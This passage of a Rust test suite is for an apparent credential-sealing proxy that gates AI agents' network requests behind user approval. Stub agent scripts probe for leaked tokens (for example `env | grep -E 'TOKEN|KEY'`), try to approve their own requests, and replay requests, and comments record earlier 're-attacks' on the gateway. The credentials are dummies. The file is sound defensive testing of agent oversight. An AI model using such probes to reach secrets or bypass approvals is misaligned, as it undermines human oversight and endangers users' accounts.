        "[capabilities.credential]\nkind = \"api_key\"\nformat = \"token {{key}}\"\n\n[proxy]\n\
         placeholder_env = [\"GH_TOKEN\"]\n\n[[proxy.operations]]\nname = \"read\"\nmethod = \"GET\"\n\
         host = \"{upstream}\"\npath = \"/**\"\n"
    );
    install_spec_only(&rig, &upstream, &extra);
    bind_key(&rig, "ghp_unreadAnswersKey000000000000000000001");
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/launch/unread_answers.js");
    claude_runs(&rig, format!("#!/bin/sh\nexec node '{}'\n", script.display()));
    let report_path = rig.workspace().join("unread-report.json");
    let env: [(&str, &std::ffi::OsStr); 3] =
        [("ATTACK_REPORT", report_path.as_os_str()), ("UPSTREAM", upstream.as_ref()), ("STREAMS", "80".as_ref())];
    let tools = exposing_the_checkouts_tools();
    let mut args = vec!["launch"];
    args.extend(tools.iter().map(String::as_str));
    args.push("claude");
    let output = rig.run_with_path(&args, &env, Path::new("/usr/bin"));
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report: Value = serde_json::from_str(&std::fs::read_to_string(&report_path).unwrap()).unwrap();
    let (whole, streamed) = (report["whole"].as_u64().unwrap(), report["streamed"].as_u64().unwrap());
    assert!(whole <= 32, "{report}");
    assert!(whole >= 8 && streamed >= 1, "answers came, whole then streamed: {report}");
}

/// SPEC §15's sealed credentials, oauth2 (bearer with refresh): a refresh token another tool
/// obtained is imported (`binding setup --refresh-token-from-env`), and a launched agent's own
/// tool, holding only the placeholder, reaches the API with a fresh access token each time the
/// last one is about to expire — refreshed by the daemon at the provider (rotating the refresh
/// token), put on the request in place of the placeholder, and redacted where the API echoes it.
#[test]
fn a_launched_agents_oauth2_tool_gets_fresh_access_tokens_it_never_sees() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let provider = runtime.block_on(crate::fake_oauth::FakeOAuth::start());
    // Every token is within the refresh margin at once: each request refreshes.
    provider.state.expires_in.store(30, std::sync::atomic::Ordering::SeqCst);
    let rig = LaunchRig::new();
    let saw: Arc<std::sync::Mutex<Vec<String>>> = Arc::default();
    let recorded = saw.clone();
    let answer: crate::gateway::Answer = Arc::new(move |line: &str, headers: &[String]| {
        let authorization = header_value(headers, "authorization");
        if !line.is_empty() {
            recorded.lock().unwrap().push(authorization.clone());
        }
        (format!("x-echo: {authorization}\r\n"), json!({ "saw": authorization }).to_string())
    });
    let upstream = answering(answer);
    start_with_a_vault(&rig);
    let extra = format!(
        "{}\n[proxy]\nplaceholder_env = [\"SERVICE_TOKEN\"]\n\n\
         [[proxy.operations]]\nname = \"me\"\nmethod = \"GET\"\nhost = \"{upstream}\"\npath = \"/v1/me/**\"\n",
        provider.manifest_credential(None)
    );
    install_spec_only(&rig, &upstream, &extra);
    let refresh_token = provider.mint_refresh_token();
    let bound = rig.run_in(
        &rig.workspace(),
        &["binding", "setup", "github://aileron-tests/http_get", "--refresh-token-from-env", "RT"],
        &[("RT", refresh_token.as_ref())],
    );
    assert!(bound.status.success(), "{}", text(&bound));

    agent_script(&rig, "bearer_clients.py");
    let report_path = rig.workspace().join("bearer-report.json");
    let env: [(&str, &std::ffi::OsStr); 2] =
        [("ATTACK_REPORT", report_path.as_os_str()), ("UPSTREAM", upstream.as_ref())];
    let output = rig.run_with_path(&["launch", "claude"], &env, Path::new("/usr/bin"));
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report_text = std::fs::read_to_string(&report_path).unwrap();
    let report: Value = serde_json::from_str(&report_text).unwrap();

    assert_eq!(report["SERVICE_TOKEN"], "aileron-sealed", "{report:#}");
    for answer in report["answers"].as_array().unwrap() {
        let shown = answer["stdout"].as_str().unwrap();
        assert!(shown.starts_with("HTTP/1.1 200 Connection established"), "{answer:#}");
        assert!(shown.contains("x-echo: [REDACTED]") && shown.contains(r#"{"saw":"[REDACTED]"}"#), "{answer:#}");
    }
    let issued = provider.state.access_tokens_issued();
    let saw = saw.lock().unwrap().clone();
    assert_eq!(saw.len(), 3, "{saw:?}");
    assert_eq!(
        saw,
        issued.iter().map(|token| format!("Bearer {token}")).collect::<Vec<_>>(),
        "a fresh token each time"
    );
    assert_eq!(provider.state.refreshes.load(std::sync::atomic::Ordering::SeqCst), 3);
    for token in issued.iter().chain([&refresh_token]) {
        assert!(!report_text.contains(token.as_str()), "the agent saw {token}");
    }
    let listed = rig.run(&["audit", "list", "--json", "--limit", "1000"], &[]);
    let all = String::from_utf8_lossy(&listed.stdout).to_string();
    assert!(issued.iter().all(|token| !all.contains(token.as_str())), "a token reached the audit log");
    let listed: Value = serde_json::from_str(&all).unwrap();
    let proxied = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| {
            r["event_type"] == "connector.proxy.proxied" && r["payload"]["aileron.connector.credential"] == "oauth2"
        })
        .count();
    assert_eq!(proxied, 3, "{listed:#}");
    drop(runtime);
}

/// SPEC §15's sealed credentials, aws_sigv4, from `aileron auth import aws` to the unmodified AWS
/// CLI: the keys in the user's `~/.aws/credentials` are bound to the bundled spec (the file is left
/// as it was); a launched agent's CLI signs with the placeholder keys the launch gave it, and a
/// config the launch wrote (path-style S3); the proxy strips that signature and signs again with the
/// bound keys, for S3 or STS as each operation says. A fake S3 and STS on their real names
/// (`AILERON_CONNECT_TO`) checks every signature with botocore (not Aileron's signer) and the bound
/// secret: `s3api list-buckets` and an `s3 cp` upload (S3's streaming checksum payload) succeed,
/// `sts get-caller-identity` once the user approves it (STS can mint keys); `s3 rm` waits for an approval nobody gives and never reaches
/// S3; the agent never holds the bound keys, and the records name the operations.
#[test]
fn a_launched_agents_aws_cli_is_signed_with_the_imported_keys_it_never_sees() {
    const KEY_ID: &str = "AKIDSEALEDEXAMPLE123";
    const SECRET: &str = "sealedSecretAccessKeyTheAgentNeverSees01";
    let rig = LaunchRig::new();
    let log = rig.temp.path().join("s3.log");
    let venv_python = crate::gateway_clients::venv_python();
    // cargo xtask setup installs awscli and botocore into target/py.
    let _fake = serve_public_names(
        &rig,
        &venv_python,
        "fake_s3.py",
        &[KEY_ID.as_ref(), SECRET.as_ref(), log.as_os_str()],
        &["s3.amazonaws.com", "sts.amazonaws.com", "sts.us-east-1.amazonaws.com"],
    );
    let credentials = rig.user_home().join(".aws/credentials");
    std::fs::create_dir_all(credentials.parent().unwrap()).unwrap();
    let original = format!(
        "[default]\naws_access_key_id = {KEY_ID}\naws_secret_access_key = {SECRET}\n\n[other]\n\
         aws_access_key_id = AKIAOTHERPROFILE0000\naws_secret_access_key = notThisOne\n"
    );
    std::fs::write(&credentials, &original).unwrap();
    let imported = rig.run_in(&rig.workspace(), &["auth", "import", "aws", "--yes"], &[]);
    assert!(imported.status.success(), "{}", text(&imported));
    assert!(text(&imported).contains("profile default of"), "{}", text(&imported));
    assert!(!text(&imported).contains(SECRET), "{}", text(&imported));
    assert_eq!(std::fs::read_to_string(&credentials).unwrap(), original, "the original is left where it was");

    agent_script(&rig, "aws_clients.py");
    let report_path = rig.workspace().join("aws-report.json");
    let env: [(&str, &std::ffi::OsStr); 3] = [
        ("ATTACK_REPORT", report_path.as_os_str()),
        ("VENV_PYTHON", venv_python.as_os_str()),
        // The user's own keys in the shell the launch starts from: the agent gets placeholders.
        ("AWS_SECRET_ACCESS_KEY", "theUsersOwnSecretFromTheShell".as_ref()),
    ];
    // The user approves the STS request (it can mint keys, so it waits), never the delete.
    let done = std::sync::atomic::AtomicBool::new(false);
    let (output, sts_approved) = std::thread::scope(|scope| {
        let approver = scope.spawn(|| {
            let mut approved = 0;
            while !done.load(std::sync::atomic::Ordering::Acquire) {
                let listed = rig.run(&["approval", "list", "--json"], &[]);
                let listed: Value = serde_json::from_slice(&listed.stdout).unwrap_or(Value::Null);
                for item in listed["items"].as_array().cloned().unwrap_or_default() {
                    if item.to_string().contains("sts_regional") {
                        approved += usize::from(
                            rig.run(&["approval", "approve", item["id"].as_str().unwrap()], &[]).status.success(),
                        );
                    }
                }
                std::thread::sleep(std::time::Duration::from_millis(200));
            }
            approved
        });
        let tools = exposing_the_checkouts_tools();
        let mut args = vec!["launch"];
        args.extend(tools.iter().map(String::as_str));
        args.extend(["claude", "--approval-hold", "2"]);
        let output = rig.run_with_path(&args, &env, Path::new("/usr/bin"));
        done.store(true, std::sync::atomic::Ordering::Release);
        (output, approver.join().unwrap())
    });
    assert!(sts_approved >= 1, "STS did not wait for the user");
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report_text = std::fs::read_to_string(&report_path).unwrap();
    let report: Value = serde_json::from_str(&report_text).unwrap();
    let log = std::fs::read_to_string(&log).unwrap_or_default();

    assert_eq!(report["AWS_ACCESS_KEY_ID"], "AKIAAILERONSEALED000", "{report:#}");
    assert_eq!(report["AWS_SECRET_ACCESS_KEY"], "aileron-sealed", "{report:#}");
    assert!(report["config"].as_str().unwrap().contains("addressing_style = path"), "{report:#}");
    assert_eq!(report["list_buckets"]["code"], 0, "{report:#}\n{log}");
    assert!(report["list_buckets"]["stdout"].as_str().unwrap().contains("sealed-bucket"), "{report:#}");
    assert_eq!(report["copy"]["code"], 0, "{report:#}\n{log}");
    assert_eq!(report["identity"]["code"], 0, "{report:#}\n{log}");
    assert!(report["identity"]["stdout"].as_str().unwrap().contains("123456789012"), "{report:#}");
    assert_ne!(report["remove"]["code"], 0, "{report:#}\n{log}");
    // The sixteenth re-attack: an echo of the signature the proxy made (and of the user's key id).
    let echoed = report["echoed"].as_str().unwrap_or_default();
    assert!(echoed.contains("<Echo>") && echoed.contains("[REDACTED]"), "{report:#}\n{log}");
    assert!(!echoed.contains(KEY_ID) && !echoed.contains("Signature="), "{echoed}");
    let verdicts: Vec<Value> = log.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert!(verdicts.len() >= 3, "{log}");
    for verdict in &verdicts {
        assert_eq!((&verdict["key_id"], &verdict["verdict"]), (&json!(KEY_ID), &json!("ok")), "{log}");
    }
    let seen = |method: &str, host: &str, path: &str| {
        verdicts.iter().any(|v| v["method"] == method && v["host"] == host && v["path"] == path)
    };
    assert!(seen("GET", "s3.amazonaws.com", "/"), "{log}");
    assert!(seen("PUT", "s3.amazonaws.com", "/sealed-bucket/hello.txt"), "{log}");
    assert!(verdicts.iter().any(|v| v["service"] == "sts"), "{log}");
    assert!(!verdicts.iter().any(|v| v["method"] == "DELETE"), "the unapproved delete never reached S3: {log}");
    for secret in [KEY_ID, SECRET, "theUsersOwnSecret"] {
        assert!(!report_text.contains(secret), "the agent saw {secret}");
    }

    assert_audited(
        &rig,
        "github://aileron/aws-cli",
        SECRET,
        &[
            ("connector.proxy.proxied", "s3_read", ""),
            ("connector.proxy.proxied", "s3_put_object", ""),
            // awscli 1.45 reaches STS at us-east-1's regional endpoint.
            ("connector.proxy.proxied", "sts_regional", ""),
            ("connector.proxy.rejected", "s3_delete_object", "approval_pending"),
        ],
    );
}

/// SPEC §15's approval at the proxy: a launched agent's own request matching an `approval = true`
/// operation waits for the user. Approved in time → forwarded once with the credential; denied →
/// 403 `approval_denied`; undecided within `--approval-hold` → 403 `approval_pending` with the
/// approval's id and review URL, and after a late approval the identical request (and not one
/// with another body) goes through once, a second retry asking anew; two identical requests at
/// once share one approval and one goes out; the agent's own token cannot decide.
#[test]
fn a_launched_agents_gated_request_waits_for_the_user_and_goes_once() {
    let rig = LaunchRig::new();
    let saw: Arc<std::sync::Mutex<Vec<(String, String, String)>>> = Arc::default();
    let recorded = saw.clone();
    let answer: crate::gateway::Answer = Arc::new(move |line: &str, headers: &[String]| {
        let authorization = header_value(headers, "authorization");
        if !line.is_empty() {
            recorded.lock().unwrap().push((line.to_string(), authorization, String::new()));
        }
        (String::new(), r#"{"merged":true}"#.to_string())
    });
    let upstream = answering(answer);
    start_with_a_vault(&rig);
    let extra = format!(
        "[capabilities.credential]\nkind = \"api_key\"\nformat = \"token {{key}}\"\n\n[proxy]\n\
         placeholder_env = [\"GH_TOKEN\"]\n\n\
         [[proxy.operations]]\nname = \"merge_pull_request\"\nmethod = \"PUT\"\nhost = \"{upstream}\"\n\
         path = \"/repos/{{owner}}/{{repo}}/pulls/{{number}}/merge\"\napproval = true\n\n\
         [[proxy.operations]]\nname = \"delete_repository\"\nmethod = \"DELETE\"\nhost = \"{upstream}\"\n\
         path = \"/repos/{{owner}}/{{repo}}\"\napproval = true\n\n\
         [[proxy.operations]]\nname = \"graphql\"\nmethod = \"POST\"\nhost = \"{upstream}\"\npath = \"/graphql\"\n\n\
         [[proxy.operations]]\nname = \"merge_pull_request_graphql\"\nmethod = \"POST\"\nhost = \"{upstream}\"\n\
         path = \"/graphql\"\ngraphql = \"mergePullRequest\"\napproval = true\n"
    );
    install_spec_only(&rig, &upstream, &extra);
    const KEY: &str = "ghp_gatedKeyTheAgentNeverSees000000000001";
    bind_key(&rig, KEY);
    agent_script(&rig, "gated_clients.py");
    let shared = rig.workspace().join("markers");
    std::fs::create_dir_all(&shared).unwrap();
    let report_path = rig.workspace().join("gated-report.json");

    let done = std::sync::atomic::AtomicBool::new(false);
    let (decisions, most_flooding, shown) = std::thread::scope(|scope| {
        let decider = scope.spawn(|| {
            let mut decided: Vec<(String, String, &str)> = Vec::new();
            let mut most_flooding = 0;
            let mut shown = String::new();
            while !done.load(std::sync::atomic::Ordering::Acquire) {
                let listed = rig.run(&["approval", "list", "--json"], &[]);
                let listed: Value = serde_json::from_slice(&listed.stdout).unwrap_or(Value::Null);
                let flooding = listed["items"]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .filter(|item| item["args"]["path"] == "/repos/acme/app/pulls/10/merge")
                    .count();
                most_flooding = most_flooding.max(flooding);
                if shown.is_empty() && listed["items"].as_array().is_some_and(|items| !items.is_empty()) {
                    shown = text(&rig.run(&["approval", "list"], &[]));
                }
                for item in listed["items"].as_array().cloned().unwrap_or_default() {
                    let id = item["id"].as_str().unwrap().to_string();
                    let (method, path) =
                        (item["args"]["method"].as_str().unwrap(), item["args"]["path"].as_str().unwrap());
                    let body = item["args"]["body"].as_str().unwrap_or_default();
                    let verdict = match (method, path) {
                        // The two identical requests sent at once are one approval, decided once: a
                        // second approval (the second request arriving after the first went)
                        // stays undecided, as a user who approved one merge would leave it.
                        ("PUT", "/repos/acme/app/pulls/9/merge")
                            if decided.iter().any(|(_, decided_path, _)| decided_path == path) =>
                        {
                            continue;
                        }
                        ("PUT", "/repos/acme/app/pulls/7/merge") | ("PUT", "/repos/acme/app/pulls/9/merge") => {
                            "approve"
                        }
                        ("DELETE", "/repos/acme/app") | ("POST", "/graphql") => "deny",
                        ("PUT", "/repos/acme/app/pulls/8/merge")
                            if body.contains("\"merge\"")
                                && shared.join("late-pending").exists()
                                && !shared.join("late-approved").exists() =>
                        {
                            "approve-late"
                        }
                        _ => continue,
                    };
                    let decided_now = match verdict {
                        "deny" => rig.run(&["approval", "deny", &id, "--reason", "not this repository"], &[]),
                        _ => rig.run(&["approval", "approve", &id], &[]),
                    };
                    assert!(decided_now.status.success(), "{}", text(&decided_now));
                    if verdict == "approve-late" {
                        std::fs::write(shared.join("late-approved"), "").unwrap();
                    }
                    decided.push((method.to_string(), path.to_string(), verdict));
                }
                std::thread::sleep(std::time::Duration::from_millis(100));
            }
            (decided, most_flooding, shown)
        });
        let env: [(&str, &std::ffi::OsStr); 3] = [
            ("ATTACK_REPORT", report_path.as_os_str()),
            ("UPSTREAM", upstream.as_ref()),
            ("SHARED_DIR", shared.as_os_str()),
        ];
        let output = rig.run_with_path(&["launch", "claude", "--approval-hold", "3"], &env, Path::new("/usr/bin"));
        done.store(true, std::sync::atomic::Ordering::Release);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output));
        decider.join().unwrap()
    });
    let report: Value = serde_json::from_str(&std::fs::read_to_string(&report_path).unwrap()).unwrap();
    let status = |name: &str| report[name]["status"].as_str().unwrap_or_default().to_string();
    let class = |name: &str| report[name]["body"]["error"]["class"].as_str().unwrap_or_default().to_string();

    assert_eq!(status("approved"), "200", "{report:#} {decisions:?}");
    assert!(
        shown.contains(&format!("PUT {upstream}  (github://aileron-tests/http_get#merge_pull_request)"))
            && shown.contains("path = \"/repos/acme/app/pulls/7/merge\""),
        "`approval list` shows the held request: {shown}"
    );
    assert_eq!((status("denied"), class("denied")), ("403".into(), "approval_denied".into()), "{report:#}");
    assert_eq!((status("late"), class("late")), ("403".into(), "approval_pending".into()), "{report:#}");
    assert!(
        report["late"]["body"]["error"]["review_url"].as_str().unwrap().contains("/approvals?focus="),
        "{report:#}"
    );
    assert_eq!(class("retry_other_body"), "approval_pending", "another body is another request: {report:#}");
    assert_eq!(status("retry"), "200", "the identical request goes once after a late approval: {report:#}");
    assert_eq!(class("retry_again"), "approval_pending", "a permit is single-use: {report:#}");
    let concurrent: Vec<String> =
        report["concurrent"].as_array().unwrap().iter().map(|r| r["status"].as_str().unwrap().to_string()).collect();
    let mut sorted = concurrent.clone();
    sorted.sort();
    assert_eq!(sorted, ["200", "403"], "{report:#}");
    assert_eq!(report["self_decide"], "403", "the agent's token cannot decide: {report:#}");
    let flood: Vec<&str> = report["flood"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["body"]["error"]["class"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(flood, ["approval_pending"; 6], "{report:#}");
    assert_eq!(most_flooding, 6, "each of the six is an approval left pending");
    // Four held at once: the last two wait a whole hold (3 s) for a slot, then hold their own.
    let flood_seconds = report["flood_seconds"].as_f64().unwrap();
    assert!(flood_seconds >= 5.5, "at most four bodies of one session held at once: six took {flood_seconds:.1} s");
    assert_eq!(status("graphql_query"), "200", "{report:#}");
    assert_eq!(class("graphql_merge"), "approval_denied", "a gated GraphQL mutation waits: {report:#}");
    assert_eq!(class("graphql_unreadable"), "graphql_unreadable", "{report:#}");
    assert_eq!(class("graphql_in_url_post"), "graphql_in_url", "{report:#}");
    assert_eq!(class("graphql_in_url_get"), "graphql_in_url", "{report:#}");

    let saw = saw.lock().unwrap().clone();
    let forwarded: Vec<&str> = saw.iter().map(|(line, _, _)| line.as_str()).collect();
    assert_eq!(
        forwarded,
        [
            "PUT /repos/acme/app/pulls/7/merge HTTP/1.1",
            "PUT /repos/acme/app/pulls/8/merge HTTP/1.1",
            "PUT /repos/acme/app/pulls/9/merge HTTP/1.1",
            "POST /graphql HTTP/1.1"
        ],
        "exactly the approved requests, once each"
    );
    assert!(saw.iter().all(|(_, authorization, _)| authorization == &format!("token {KEY}")), "{saw:?}");
    assert_eq!(
        decisions.iter().filter(|(_, path, _)| path.ends_with("/9/merge")).count(),
        1,
        "one approval for the pair"
    );

    let listed = rig.run(&["audit", "list", "--json", "--limit", "1000"], &[]);
    let all = String::from_utf8_lossy(&listed.stdout).to_string();
    assert!(!all.contains(KEY));
    let listed: Value = serde_json::from_str(&all).unwrap();
    let requested = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["event_type"] == "approval.requested" && r["payload"]["aileron.approval.kind"] == "http_request")
        .count();
    assert!(requested >= 5, "each held request is an audited approval: {requested}");
}

/// SPEC §15's permit is session-bound: session A's request is approved after its hold ran out,
/// and A ends without retrying; session B's identical request (same method, path, body, agent)
/// does not go out on A's permit but waits for an approval of its own.
#[test]
fn a_late_approval_is_a_permit_for_its_own_session_only() {
    let rig = LaunchRig::new();
    let (upstream, saw) = recording_upstream(r#"{"merged":true}"#);
    start_with_a_vault(&rig);
    let extra = format!(
        "[capabilities.credential]\nkind = \"api_key\"\nformat = \"token {{key}}\"\n\n[proxy]\n\
         placeholder_env = [\"GH_TOKEN\"]\n\n\
         [[proxy.operations]]\nname = \"merge_pull_request\"\nmethod = \"PUT\"\nhost = \"{upstream}\"\n\
         path = \"/repos/{{owner}}/{{repo}}/pulls/{{number}}/merge\"\napproval = true\n"
    );
    install_spec_only(&rig, &upstream, &extra);
    bind_key(&rig, "ghp_permitKeyTheAgentNeverSees0000000001");
    agent_script(&rig, "permit_clients.py");
    let shared = rig.workspace().join("markers");
    std::fs::create_dir_all(&shared).unwrap();
    let launch = |step: &str| {
        let report = rig.workspace().join(format!("permit-{step}.json"));
        let env: [(&str, &std::ffi::OsStr); 4] = [
            ("ATTACK_REPORT", report.as_os_str()),
            ("UPSTREAM", upstream.as_ref()),
            ("SHARED_DIR", shared.as_os_str()),
            ("STEP", step.as_ref()),
        ];
        let output = rig.run_with_path(&["launch", "claude", "--approval-hold", "1"], &env, Path::new("/usr/bin"));
        assert_eq!(output.status.code(), Some(0), "{}", text(&output));
        serde_json::from_str::<Value>(&std::fs::read_to_string(&report).unwrap()).unwrap()
    };
    let (first, approved) = std::thread::scope(|scope| {
        let session_a = scope.spawn(|| launch("a"));
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while !shared.join("a-pending").exists() {
            assert!(std::time::Instant::now() < deadline && !session_a.is_finished(), "session A never asked");
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let listed: Value = serde_json::from_slice(&rig.run(&["approval", "list", "--json"], &[]).stdout).unwrap();
        let items = listed["items"].as_array().unwrap();
        assert_eq!(items.len(), 1, "{listed:#}");
        let id = items[0]["id"].as_str().unwrap().to_string();
        let approved = rig.run(&["approval", "approve", &id], &[]);
        assert!(approved.status.success(), "{}", text(&approved));
        std::fs::write(shared.join("a-approved"), "").unwrap();
        (session_a.join().unwrap(), id)
    });
    assert_eq!(first["body"]["error"]["class"], "approval_pending", "{first:#}");
    assert_eq!(first["body"]["error"]["approval_id"], approved.as_str(), "{first:#}");

    let second = launch("b");
    assert_eq!(second["body"]["error"]["class"], "approval_pending", "B waits for its own approval: {second:#}");
    let asked = second["body"]["error"]["approval_id"].as_str().unwrap();
    assert_ne!(asked, approved, "B's request is a new approval, not A's permit");
    assert!(saw.lock().unwrap().is_empty(), "nothing went out: {:?}", saw.lock().unwrap());
    // B's own approval was withdrawn when B's session ended; A's stays an unused permit.
    let status =
        |id: &str| String::from_utf8_lossy(&rig.run(&["approval", "status", id], &[]).stdout).trim().to_string();
    assert_eq!(status(asked), "cancelled: the session that asked ended");
    assert_eq!(status(&approved), "approved");
}

/// SPEC §15's LLM keys: a provider key in the vault (`aileron secret set llm/anthropic`) is put on
/// the agent's model requests by the gateway, and the launched agent gets a placeholder instead of
/// the key in the user's shell. The upstream sees the vault's key; the agent never does.
///
/// The re-attack of 2026-12-05: the gateway put the vault's key on any request that passed the
/// Host check, so another local user (or any program) reaching the loopback port spent it. Now
/// the placeholder is the session's own gateway key: a request without it goes upstream as it
/// came, one with the fixed placeholder or the key of a session that has ended is refused.
#[test]
fn a_launched_agents_llm_key_comes_from_the_vault_and_it_sees_a_placeholder() {
    const KEY: &str = "sk-ant-vaultKeyTheAgentNeverSees000000001";
    let rig = LaunchRig::new();
    let saw: Arc<std::sync::Mutex<Vec<String>>> = Arc::default();
    let recorded = saw.clone();
    let answer: crate::gateway::Answer = Arc::new(move |line: &str, headers: &[String]| {
        if !line.is_empty() {
            // The session's key, in whichever header it came, is Aileron's own: never upstream.
            let ours = headers.iter().find(|header| header.contains("aileron-sealed"));
            let key = header_value(headers, "x-api-key");
            recorded.lock().unwrap().push(ours.map_or(key, |ours| format!("the session's key went upstream: {ours}")));
        }
        (String::new(), r#"{"type":"message","content":[]}"#.to_string())
    });
    let upstream = answering(answer);
    let roots = rig.temp.path().join("daemon-roots.pem");
    std::fs::write(&roots, crate::gateway::TEST_UPSTREAM_CERT).unwrap();
    let model = format!("https://{upstream}");
    let started =
        rig.run(&["daemon", "start"], &[("SSL_CERT_FILE", &roots), ("AILERON_ANTHROPIC_UPSTREAM", Path::new(&model))]);
    assert!(started.status.success(), "{}", text(&started));
    let passphrase = rig.temp.path().join("passphrase");
    std::fs::write(&passphrase, "correct horse battery staple\n").unwrap();
    let init = rig.run(&["vault", "init", "--passphrase-file", passphrase.to_str().unwrap()], &[]);
    assert!(init.status.success(), "{}", text(&init));
    let set = rig.command_in(
        &rig.workspace(),
        &["secret", "set", "llm/anthropic", "--from-env", "LLM_KEY"],
        None,
        &[("LLM_KEY", KEY.as_ref())],
    );
    assert!(set.status.success(), "{}", text(&set));
    let report = rig.workspace().join("llm-report.txt");
    let script = format!(
        "#!/bin/sh\nask() {{ curl -sS \"$ANTHROPIC_BASE_URL/v1/messages\" -H 'anthropic-version: 2023-06-01' \
         -H 'content-type: application/json' --data '{{}}' \"$@\"; echo; }}\n\
         {{ echo \"key=$ANTHROPIC_API_KEY\"; ask -H \"x-api-key: $ANTHROPIC_API_KEY\" -H \"authorization: Bearer $ANTHROPIC_API_KEY\"; echo no-key:; ask; \
         echo fixed-placeholder:; ask -H 'x-api-key: aileron-sealed'; }} > '{}' 2>&1\n",
        report.display()
    );
    claude_runs(&rig, script);
    let env: [(&str, &std::ffi::OsStr); 1] = [("ANTHROPIC_API_KEY", "sk-ant-theUsersOwnKeyFromTheShell".as_ref())];
    let output = rig.run_with_path(&["launch", "claude"], &env, Path::new("/usr/bin"));
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report = std::fs::read_to_string(&report).unwrap();
    let session_key = report.lines().next().unwrap().strip_prefix("key=").unwrap().to_string();
    assert!(session_key.starts_with("aileron-sealed-") && session_key.len() > 30, "{report}");
    assert!(report.contains(r#"{"type":"message""#), "the model answered: {report}");
    let refused = report.split("fixed-placeholder:").nth(1).unwrap();
    assert!(refused.contains("authentication_error") && refused.contains("no live session"), "{report}");
    assert!(!report.contains(KEY) && !report.contains("theUsersOwnKey"), "{report}");
    // Once the session has ended, its key gets nothing either.
    let daemon = rig.daemon().unwrap();
    let late = Command::new("curl")
        .args(["-sS", &format!("{}/v1/messages", daemon["url"].as_str().unwrap()), "--data", "{}"])
        .args(["-H", "anthropic-version: 2023-06-01", "-H", &format!("x-api-key: {session_key}")])
        .output()
        .unwrap();
    let late = String::from_utf8_lossy(&late.stdout);
    assert!(late.contains("no live session"), "{late}");
    // The upstream got the vault's key once, with the session's key; the request without a key
    // went as it came.
    assert_eq!(*saw.lock().unwrap(), [KEY.to_string(), String::new()], "{report}");
    // Each of the agent's three gateway requests is on record under its session, whatever key it
    // carried (the eighth re-attack: with a key of its own the gateway was a way out unrecorded);
    // the late one, from outside any session, is not.
    let listed = rig.run(&["audit", "list", "--json", "--event-type", "sandbox.proxy.passthrough"], &[]);
    let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
    let gateway: Vec<&Value> = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|item| item["payload"]["aileron.proxy.source"] == "llm_gateway")
        .collect();
    assert_eq!(gateway.len(), 3, "{listed:#}");
    for item in gateway {
        assert_eq!(item["payload"]["aileron.proxy.upstream.path"], "/v1/messages", "{item:#}");
        assert_eq!(item["payload"]["aileron.proxy.upstream.host"], model.as_str(), "{item:#}");
        assert!(item["session_id"].as_str().is_some_and(|id| id.starts_with("ses-")), "{item:#}");
    }
}

/// SPEC §15's git over https: an operation's own format (`Basic {basic:x-access-token}`) puts the
/// bound token on a launched agent's unmodified `git push` as GitHub takes it; a real smart-HTTP
/// server that accepts pushes only with that header gets the commit. The agent never holds the
/// token, nor its base64.
#[test]
fn a_launched_agents_git_push_over_https_carries_the_bound_token_it_never_sees() {
    use base64::Engine as _;
    const KEY: &str = "ghp_gitPushKeyTheAgentNeverSees000000001";
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{KEY}"));
    let rig = LaunchRig::new();
    let git = GitServer::start_with(rig.temp.path(), Some(&format!("Basic {basic}")));
    let upstream = format!("localhost:{}", git.port);
    start_with_a_vault(&rig);
    let operations = ["GET /repo.git/info/refs", "POST /repo.git/git-upload-pack", "POST /repo.git/git-receive-pack"]
        .iter()
        .enumerate()
        .map(|(index, operation)| {
            let (method, path) = operation.split_once(' ').unwrap();
            format!(
                "[[proxy.operations]]\nname = \"git{index}\"\nmethod = \"{method}\"\nhost = \"{upstream}\"\n\
                 path = \"{path}\"\nformat = \"Basic {{basic:x-access-token}}\"\n\n"
            )
        })
        .collect::<String>();
    let extra = format!(
        "[capabilities.credential]\nkind = \"api_key\"\nformat = \"token {{key}}\"\n\n[proxy]\n\
         placeholder_env = [\"GH_TOKEN\"]\n\n{operations}"
    );
    install_spec_only(&rig, &upstream, &extra);
    bind_key(&rig, KEY);
    let report = rig.workspace().join("git-report.txt");
    let script = format!(
        // `localhost` is in NO_PROXY: git is told to use the proxy anyway.
        "#!/bin/sh\nunset NO_PROXY no_proxy\ncd \"$TMPDIR\" && {{ git clone -q https://{upstream}/repo.git clone && cd clone && \
         git -c user.email=agent@example.org -c user.name=agent commit -q --allow-empty -m 'pushed through Aileron' && \
         git push -q origin HEAD:main && echo pushed; env | grep -E 'TOKEN|KEY'; }} > '{}' 2>&1\n",
        report.display()
    );
    claude_runs(&rig, script);
    let output = rig.run_with_path(&["launch", "claude"], &[], Path::new("/usr/bin"));
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report = std::fs::read_to_string(&report).unwrap();
    assert!(report.contains("pushed"), "{report}");
    assert!(report.contains("GH_TOKEN=aileron-sealed"), "{report}");
    assert!(!report.contains(KEY) && !report.contains(&basic), "{report}");
    let log = Command::new("git")
        .args([
            "--git-dir",
            rig.temp.path().join("git-server/repo.git").to_str().unwrap(),
            "log",
            "-1",
            "--format=%s",
            "main",
        ])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&log.stdout).trim(), "pushed through Aileron", "the server got the push");
    let listed = rig.run(&["audit", "list", "--json", "--event-type", "connector.proxy.proxied"], &[]);
    let all = String::from_utf8_lossy(&listed.stdout);
    assert!(all.contains("/repo.git/git-receive-pack") && !all.contains(KEY) && !all.contains(&basic), "{all}");
}

/// SPEC §15 end to end with the real GitHub CLI (`gh`, the Debian package, unmodified) and the
